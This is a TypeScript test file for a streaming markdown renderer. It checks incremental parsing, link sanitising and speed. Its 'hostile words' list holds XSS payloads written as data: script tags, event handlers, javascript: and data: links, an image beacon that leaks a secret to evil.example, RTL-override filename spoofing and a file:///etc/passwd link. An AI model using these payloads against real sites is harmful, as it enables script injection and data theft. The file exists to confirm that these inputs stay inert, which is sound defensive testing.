import { describe, expect, it } from 'vitest';
import { Blocks } from './blocks';
import { safeAddress, tree, visible, type Tree } from './tree';

const SAMPLE = `# Title

Some *emphasis*, \`code\` and [a link](https://example.com/a?b=c). It costs $5 and $6.

- one
- two
  - nested

1. first
2. second

\`\`\`rust
fn main() { println!("hi"); }
\`\`\`

| a | b |
|---|--:|
| 1 | 2 |

> quoted
> twice

$$
x^2 + y^2
$$

Loose end with [a reference][r].

[r]: https://example.com/ref
`;

/** Pieces of a text, cut as a seed says. */
function cuts(text: string, seed: number): string[] {
  let state = seed;
  const pieces: string[] = [];
  for (let at = 0; at < text.length; ) {
    state = (state * 1_103_515_245 + 12_345) & 0x7fffffff;
    const length = 1 + (state % 17);
    pieces.push(text.slice(at, at + length));
    at += length;
  }
  return pieces;
}

function grown(text: string, pieces: string[]): Blocks {
  const blocks = new Blocks();
  let so = '';
  for (const piece of pieces) {
    so += piece;
    blocks.update(so, false);
  }
  blocks.update(text, true);
  return blocks;
}

const drawn = (blocks: Blocks): Tree[] => blocks.all.flatMap((block) => tree(block.token));

describe('markdown that grows', () => {
  it('comes to what it is when it is read at once, however it is cut', () => {
    const whole = new Blocks();
    whole.update(SAMPLE, true);
    for (let seed = 1; seed <= 200; seed += 1) expect(drawn(grown(SAMPLE, cuts(SAMPLE, seed)))).toEqual(drawn(whole));
  });

  it('loses no letter and keeps what is settled', () => {
    const blocks = new Blocks();
    let so = '';
    let first: unknown;
    for (const piece of cuts(SAMPLE.repeat(3), 7)) {
      so += piece;
      blocks.update(so, false);
      expect(so.startsWith(blocks.settled.map((block) => block.raw).join(''))).toBe(true);
      first ??= blocks.settled[0];
      if (first) expect(blocks.settled[0]).toBe(first);
    }
  });

  it('begins anew where the text is another', () => {
    const blocks = new Blocks();
    blocks.update('one\n\ntwo', true);
    blocks.update('other', false);
    expect(drawn(blocks)).toEqual([{ tag: 'p', children: ['other'] }]);
  });

  it('takes a price for a price and a formula for a formula', () => {
    const blocks = new Blocks();
    blocks.update('It is $5 or $6, and $a+b$.', true);
    expect(JSON.stringify(drawn(blocks))).toBe(JSON.stringify([{ tag: 'p', children: ['It is $5 or $6, and ', { formula: 'a+b', block: false }, '.'] }]));
  });
});

const TAGS = new Set('p h3 h4 h5 h6 ul ol li blockquote hr br strong em del code a table thead tbody tr th td span pre'.split(' '));

function harmless(one: Tree): void {
  if (typeof one === 'string') return expect(one).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
  if ('code' in one || 'formula' in one) return;
  if ('picture' in one) return expect(one.href).toMatch(/^(https?:\/\/|mailto:)/);
  expect(TAGS).toContain(one.tag);
  for (const [name, value] of Object.entries(one.attributes ?? {})) {
    expect(['href', 'title', 'start', 'class', 'scope']).toContain(name);
    if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/);
  }
  one.children.forEach(harmless);
}

describe('hostile words', () => {
  const hostile = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,x) [w](vbscript:x) [u](//evil.example)',
    '![beacon](https://evil.example/?q=secret)',
    '<svg onload=alert(1)><a href="javascript:alert(1)">x</a></svg>',
    '<javascript:alert(1)> <https://user:pass@evil.example>',
    'abc\u202Edcba `\u202Exe` [a](https://a.example/\u202E)',
    '&lt;script&gt;alert(1)&lt;/script&gt; &#x202E; &#0;',
    '<style>*{display:none}</style><iframe src=//evil.example></iframe>',
    '```html"><script>\nx\n```',
    '[a]: javascript:alert(1)\n\n[a]',
  ];

  it('is inert, whatever it is and wherever it is cut', () => {
    const pool = [...hostile, ...SAMPLE.split('\n')];
    let state = 42;
    const next = (most: number): number => (state = (state * 1_103_515_245 + 12_345) & 0x7fffffff) % most;
    for (let round = 0; round < 400; round += 1) {
      const text = Array.from({ length: 1 + next(8) }, () => pool[next(pool.length)]?.slice(next(4))).join(['\n', '\n\n', ' ', '> ', '|'][next(5)]);
      const blocks = grown(text, cuts(text, round + 1));
      drawn(blocks).forEach(harmless);
    }
  });

  it('does not hold the page up', () => {
    const nasty = ['a'.repeat(1_000_000), '>'.repeat(20_000), '[['.repeat(9_000), '*a '.repeat(6_000), `|${'a|'.repeat(9_000)}\n|${'-|'.repeat(9_000)}\n`, '- '.repeat(9_000), '$'.repeat(19_000), '`'.repeat(19_000)];
    for (const text of nasty) {
      const blocks = new Blocks();
      const begun = process.cpuUsage();
      blocks.update(text, false);
      blocks.update(text, true);
      drawn(blocks).forEach(harmless);
      expect(worked(begun), text.slice(0, 12)).toBeLessThan(2_000);
    }
  }, 60_000);

  it('follows only what is of the web or of mail', () => {
    for (const href of ['javascript:alert(1)', 'data:text/html,x', '/api/account', 'https://a:b@c.example', 'file:///etc/passwd', 'http://']) expect(safeAddress(href)).toBeNull();
    expect(safeAddress('https://example.com/a')).toBe('https://example.com/a');
  });

  it('shows what turns the order of text around', () => {
    expect(visible('user\u202Etxt.exe')).toBe('user[U+202E]txt.exe');
  });
});

/** Milliseconds of this process's own work: a machine that does other things meanwhile must not count. */
const worked = (since?: NodeJS.CpuUsage): number => {
  const { user, system } = process.cpuUsage(since);
  return (user + system) / 1_000;
};

it('reads more than 20,000 tokens a second, token by token', () => {
  const answer = SAMPLE.replaceAll('[r]', 'r').repeat(60).slice(0, 24_000);
  const pieces = answer.match(/[^]{1,4}/g) ?? [];
  const rates = Array.from({ length: 8 }, () => {
    const begun = process.cpuUsage();
    expect(grown(answer, pieces).all.length).toBeGreaterThan(100);
    return (pieces.length / worked(begun)) * 1_000;
  });
  console.info(`${Math.round(Math.max(...rates))} tokens/s`);
  expect(Math.max(...rates)).toBeGreaterThan(20_000);
}, 30_000);
